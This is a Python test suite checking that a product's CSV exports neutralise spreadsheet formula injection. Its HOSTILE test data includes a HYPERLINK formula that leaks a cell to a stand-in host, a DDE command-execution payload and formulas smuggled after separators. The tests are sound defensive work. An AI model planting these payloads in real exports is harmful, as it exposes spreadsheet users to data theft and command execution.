"""Every CSV the product produces goes through the one writer (records/csv_writer.py), and no
hostile value arrives in a spreadsheet as a formula, whatever separator the reader splits on
(issue 28, item 5)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, datetime

import pytest

from application.office.portfolio import table_csv
from auditing.timeline import CSV_COLUMNS, RENDERED_COLUMNS, render_csv, timeline_csv
from infra.settings import PROJECT_ROOT
from records.csv_writer import BOM, inert_text, write_csv
from schemas.audit import Timeline, TimelineEntry, TimelineEvent

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "Awa;=1+1",
    "Awa,=1+1",
    "\t=1+1",
    "\r=1+1",
    "@SUM(A1:A9)",
    "+33 6 12 34 56 78",
    "-2+3",
    "x;\t=cmd|' /C calc'!A0",
    "line\n=1+1",
    'quote"d;=1+1',
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def formulas_seen(text: str) -> list[str]:
    """Every cell a spreadsheet could read as a formula: split as a reader honouring quotes
    would (by `,`, `;` or tab), and as a naive one ignoring them."""
    seen = []
    body = text.removeprefix(BOM)
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(body, newline=""), delimiter=separator):
            seen += [c for c in row if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    for piece in re.split(r"[,;\t\r\n]", body):
        piece = piece.lstrip('"')
        if piece.startswith(TRIGGERS[:4]) and not NUMBER.fullmatch(piece):
            seen.append(piece)
    return seen


def hostile_timeline() -> Timeline:
    entries = [
        TimelineEntry(
            at=datetime(2026, 12, 7, 5, 0, tzinfo=UTC),
            event=list(TimelineEvent)[index % len(TimelineEvent)],
            stage=value,
            task_id=value,
            party=value,
            actor=value,
            summary=value,
            milestone_seq=index,
            milestone_kind=value,
            run_id=value,
            event_id=index,
            details={"comment": value, "amount": -3},
        )
        for index, value in enumerate(HOSTILE)
    ]
    return Timeline(
        convention_id="c",
        workflow_id="w",
        title=HOSTILE[0],
        source="test",
        stages=[],
        spans=[],
        entries=entries,
    )


def hostile_rows() -> list[dict[str, object]]:
    return [
        {"party": value, "contact": value, "currency": value, "requested": -1, "rate": 0.5}
        for value in HOSTILE
    ]


# Every CSV the product produces, by the function that writes it: the auditors' timeline
# (audit.py timeline --format csv, /office/audit/{id}/timeline.csv), the portfolio's tables
# (/office/portfolio/{table}.csv, starter.py report --format csv).
PRODUCERS: dict[str, Callable[[], str]] = {
    "timeline": lambda: render_csv(hostile_timeline()),
    "timeline (French)": lambda: timeline_csv(hostile_timeline(), separator=";", bom=True),
    "portfolio table": lambda: table_csv(hostile_rows()),
}


@pytest.mark.parametrize("producer", list(PRODUCERS))
def test_no_hostile_value_arrives_as_a_formula_in_any_csv_the_product_produces(
    producer: str,
) -> None:
    text = PRODUCERS[producer]()
    assert formulas_seen(text) == []
    # Nothing lost: each hostile value is still there, after its neutralising quote.
    separator = ";" if text.startswith(BOM) else ","
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=separator))
    cells = {cell for row in rows[1:] for cell in row}
    for value in HOSTILE:
        assert inert_text(value) in cells, value


def test_every_text_cell_is_quoted_numbers_are_bare_and_the_separator_is_the_locales() -> None:
    text = write_csv(["party", "requested", "note"], [["bid", -1, None], ["a;b", 2.5, "ok"]])
    assert text == 'party,requested,note\r\n"bid",-1,\r\n"a;b",2.5,"ok"\r\n'
    french = write_csv(["party", "requested"], [["Fès", 3]], separator=";", bom=True)
    assert french == '\ufeffparty;requested\r\n"Fès";3\r\n'
    with pytest.raises(ValueError):
        write_csv(["a"], [["x"]], separator="|")


def test_formulas_are_neutralised_at_the_start_and_after_each_separator() -> None:
    assert inert_text("=1+1") == "'=1+1"
    assert inert_text("a;=1+1") == "a;'=1+1"
    assert inert_text("a,@SUM(A1)") == "a,'@SUM(A1)"
    assert inert_text("\t=1") == "'\t'=1"
    assert inert_text("Fès, -20 %") == "Fès, -20 %"  # a space first: no cell starts there


def test_the_timeline_csv_keeps_its_columns_and_reads_back() -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_timeline()), newline="")))
    # The stored columns first, as older readers expect them; the rendered line after.
    assert list(rows[0]) == [*CSV_COLUMNS, *RENDERED_COLUMNS]
    assert rows[1]["actor"] == "Awa;'=1+1"
    assert all(row["language"] == "en" for row in rows)


def test_the_csv_module_is_used_by_the_one_writer_only() -> None:
    # A new CSV export must go through records/csv_writer.py, not a csv.writer of its own.
    writer = PROJECT_ROOT / "records" / "csv_writer.py"
    offenders = []
    for path in PROJECT_ROOT.rglob("*.py"):
        relative = path.relative_to(PROJECT_ROOT)
        if relative.parts[0] in {".venv", "tests", "benchmarks", "build"} or path == writer:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"^\s*(import csv|from csv import)", text, re.MULTILINE):
            offenders.append(str(relative))
    assert offenders == [], offenders
